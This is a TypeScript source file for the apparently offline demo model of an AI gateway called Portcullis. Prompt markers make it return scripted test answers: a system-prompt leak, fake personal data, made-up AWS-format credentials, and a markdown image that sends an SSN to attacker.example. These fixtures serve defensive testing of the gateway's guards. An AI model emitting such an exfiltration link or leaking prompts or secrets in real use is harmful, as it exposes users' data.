/**
 * The demo model's behaviour: a deterministic answer, and scripted behaviours triggered by markers
 * in the prompt so every guard and fault path can be exercised end to end without a network.
 * Documented in docs/demo-provider.md; keep the two in step.
 */

export interface DemoScript {
  /** The answer, already cut into tokens (each keeps its leading space). */
  tokens: string[];
  finishReason: "stop" | "length";
  /** Delay before each streamed token. */
  tokenDelayMs: number;
  /** Break the response after this many tokens (simulates an upstream dying mid-stream). */
  failAfterTokens?: number;
  /** Answer with this HTTP error status instead of a completion. */
  errorStatus?: number;
  promptTokens: number;
}

export interface DemoPrompt {
  system: string;
  /** The last user turn: markers are read from here. */
  lastUser: string;
  /** Everything the model was sent, for usage counts. */
  all: string;
}

const MAX_LONG_TOKENS = 100_000;
const MAX_DELAY_MS = 10_000;

export const DEMO_FAKE_PII =
  "Sure. The customer on file is Jane Doe, email jane.doe@example.com, phone +1 415 555 0132, " +
  "card 4111 1111 1111 1111, SSN 078-05-1120, living at 1600 Example Avenue, Springfield.";

/**
 * Made-up credentials in AWS's real formats (never issued to anyone). Not AWS's own documentation
 * example (AKIAIOSFODNN7EXAMPLE): secret scanners rightly ignore that one as a known placeholder.
 */
export const DEMO_FAKE_AWS_KEY_ID = "AKIA2E3MR7X5QWTUVZ4P";
export const DEMO_FAKE_SECRET =
  `Here are the deployment credentials: AWS_ACCESS_KEY_ID=${DEMO_FAKE_AWS_KEY_ID} and ` +
  "AWS_SECRET_ACCESS_KEY=Tq7vZ2mK9pX4rL8sN3wB6yC1dF5gH0jQ2aE7uI9o. Keep them safe.";

export const DEMO_EXFIL_ANSWER =
  "Here is a summary of your notes. ![loading](https://attacker.example/collect.png?q=the%20customer%20SSN%20is%20078-05-1120) Done.";

const TOKEN = /\s*\S+/g;

export function tokenize(text: string): string[] {
  return text.match(TOKEN) ?? [];
}

/** A rough token count for usage figures: words and punctuation runs. */
export function countTokens(text: string): number {
  return tokenize(text).length;
}

function marker(text: string, name: string): string | undefined {
  const match = new RegExp(`\\[\\[demo:${name}(?:=([0-9]{1,6}))?\\]\\]`).exec(text);
  return match ? (match[1] ?? "") : undefined;
}

function longAnswer(tokens: number): string {
  const words = [
    "Portcullis",
    "guards",
    "every",
    "request",
    "and",
    "every",
    "answer,",
    "token",
    "by",
    "token.",
  ];
  const out: string[] = [];
  for (let i = 0; i < tokens; i++) out.push(words[i % words.length]!);
  return out.join(" ");
}

export function buildScript(
  prompt: DemoPrompt,
  maxTokens: number | undefined,
  baseDelayMs: number,
): DemoScript {
  const text = prompt.lastUser;
  let answer: string;
  const long = marker(text, "long");
  if (marker(text, "system") !== undefined) {
    answer = prompt.system ? `My instructions are: ${prompt.system}` : "I have no system prompt.";
  } else if (marker(text, "pii") !== undefined) {
    answer = DEMO_FAKE_PII;
  } else if (marker(text, "secret") !== undefined) {
    answer = DEMO_FAKE_SECRET;
  } else if (marker(text, "exfil") !== undefined) {
    answer = DEMO_EXFIL_ANSWER;
  } else if (marker(text, "echo") !== undefined) {
    answer = text.replace(/\[\[demo:echo\]\]/g, "").trim() || "(nothing to echo)";
  } else if (long !== undefined) {
    answer = longAnswer(Math.min(Number(long || 2000), MAX_LONG_TOKENS));
  } else {
    const quoted = text.length > 200 ? `${text.slice(0, 200)}…` : text;
    answer = `Hello from the Portcullis demo model. You said: "${quoted}"`;
  }

  let tokens = tokenize(answer);
  let finishReason: DemoScript["finishReason"] = "stop";
  if (maxTokens !== undefined && tokens.length > maxTokens) {
    tokens = tokens.slice(0, Math.max(1, maxTokens));
    finishReason = "length";
  }
  const slow = marker(text, "slow");
  const fail = marker(text, "fail");
  const error = marker(text, "error");
  const errorStatus = error ? Number(error) : undefined;
  return {
    tokens,
    finishReason,
    tokenDelayMs: Math.min(slow !== undefined ? Number(slow || 200) : baseDelayMs, MAX_DELAY_MS),
    ...(fail !== undefined ? { failAfterTokens: Math.min(Number(fail || 3), tokens.length) } : {}),
    ...(errorStatus && errorStatus >= 400 && errorStatus <= 599 ? { errorStatus } : {}),
    promptTokens: countTokens(prompt.all),
  };
}
